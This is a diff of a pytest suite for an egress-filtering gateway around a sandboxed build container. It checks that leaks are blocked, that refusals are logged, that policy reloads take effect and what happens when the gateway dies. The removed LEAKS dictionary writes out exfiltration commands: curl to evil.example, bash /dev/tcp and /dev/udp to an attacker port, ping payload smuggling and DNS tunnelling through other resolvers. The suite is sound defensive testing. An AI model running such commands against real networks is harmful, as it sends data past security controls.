@@ -7,15 +7,16 @@ import urllib.parse
 
 import pytest
 
+import leaks
 from compose_project import Project
-from world import names
 
+ALLOW = ["GET,HEAD https://files.example/", "dns:raw.example"]
 HOST = "172.30.0.254"  # what would be the host's address on the build network
 
 
 @pytest.fixture(scope="module")
-def project(engine, world):
-    made = Project(engine, world, "compose.yaml", "serve.yaml", ["GET,HEAD https://files.example/", "dns:raw.example"])
+def project(engine, world, compose):
+    made = Project(engine, world, compose, "compose.yaml", ALLOW)
     made.up("gateway", "build", "prometheus")
     yield made
     made.down()
@@ -49,34 +50,33 @@ def test_the_gateway_is_an_ordinary_user_with_one_capability(project):
     assert int(fields["CapEff"], 16) == net_admin and int(fields["CapPrm"], 16) == net_admin
 
 
-LEAKS = {
-    "another host": "curl -sS -m 5 https://{nonce}.evil.example/{nonce}",
-    "another path's method": "curl -sS -m 5 -X PUT -d {nonce} https://files.example/{nonce}",
-    "an address": "curl -sS -m 5 http://" + names.ATTACKER + "/{nonce}",
-    "an address with an allowed name": "curl -sS -m 5 -H 'Host: files.example' http://" + names.ATTACKER + "/{nonce}",
-    "a raw port": "bash -c 'echo {nonce} > /dev/tcp/" + names.ATTACKER + "/4444'",
-    "UDP": "bash -c 'echo {nonce} > /dev/udp/" + names.ATTACKER + "/4444'",
-    "ping": "ping -c1 -W1 -p $(echo {nonce} | od -An -tx1 | tr -d ' \\n' | cut -c1-32) " + names.ATTACKER,
-    "the host's address": "curl -sS -m 5 http://" + HOST + ":8000/{nonce}",
-    "a name": "getent hosts {nonce}.evil.example",
-    "Docker's resolver": "dig +time=2 +tries=1 @127.0.0.11 {nonce}.evil.example",
-    "another resolver": "dig +time=2 +tries=1 @" + names.DNS + " {nonce}.evil.example",
-    "another resolver over TCP": "dig +tcp +time=2 +tries=1 @" + names.DNS + " {nonce}.evil.example",
-}
+def assert_nothing_leaks(project: Project, nonce: str, way: str) -> None:
+    assert works(project)
+    leaks.attempt(project.world, project.inside, [way], nonce, HOST)
+    assert works(project)
 
 
-@pytest.mark.parametrize("way", LEAKS)
-def test_nothing_leaks(project, world, nonce, way):
-    assert works(project)
-    project.inside(LEAKS[way].format(nonce=nonce))
-    assert world.traces(nonce) == []
-    assert works(project)
+@pytest.mark.parametrize("way", leaks.WAYS)
+def test_nothing_leaks(project, nonce, way):
+    assert_nothing_leaks(project, nonce, way)
 
 
 def test_a_refusal_is_explained_and_recorded(project):
     done = project.inside("curl -sS -m 5 -X DELETE https://files.example/small.txt")
     assert "method_not_allowed" in done.stdout, done
     assert project.await_record("deny", "method_not_allowed")["request"]["method"] == "DELETE"
+
+
+def test_a_changed_policy_is_read_again(project):
+    delete = "curl -sS -m 5 -X DELETE https://files.example/small.txt"
+    for allow, refused in ((["https://files.example/"], False), (ALLOW, True)):
+        project.write_policy(allow)
+        project.compose("kill", "-s", "HUP", "gateway")
+        deadline = time.monotonic() + 20
+        while ("method_not_allowed" in project.inside(delete).stdout) != refused:
+            assert time.monotonic() < deadline, project.compose("logs", "--no-color", "gateway").stdout[-3000:]
+            time.sleep(0.2)
+    assert works(project)
 
 
 def test_prometheus_fills(project, world):
@@ -96,9 +96,8 @@ def test_without_the_gateway_nothing_leaves(project, world, nonce):
     """Last: the gateway is killed, and comes back."""
     assert works(project)
     project.engine.docker("kill", project.container("gateway"))
-    for way in ("an address", "a name", "Docker's resolver", "another resolver", "UDP", "ping", "the host's address"):
-        project.inside(LEAKS[way].format(nonce=nonce))
-    assert world.traces(nonce) == []
+    ways = ("an address", "a name", "Docker's resolver", "another resolver", "UDP", "ping", "the host's address")
+    leaks.attempt(world, project.inside, ways, nonce, HOST)
     project.engine.docker("start", project.container("gateway"))
     deadline = time.monotonic() + 30
     while not works(project):
